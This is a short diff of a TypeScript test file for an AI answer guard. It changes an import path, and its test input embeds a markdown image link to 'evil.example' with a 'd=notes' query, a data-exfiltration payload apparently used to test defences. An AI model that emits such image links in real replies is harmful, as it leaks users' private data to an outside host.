@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import type { ModelReply, ModelRequest } from '#contracts/model.ts'
-import { createAnswerGuard } from '../../../src/governance/answers/answer-guard.ts'
+import { createAnswerGuard } from '../../../src/features/policy/answers/answer-guard.ts'
 
 describe('what is asked of a person', () => {
   const input = { question: 'Is ![this](https://evil.example/?d=notes) right?' }
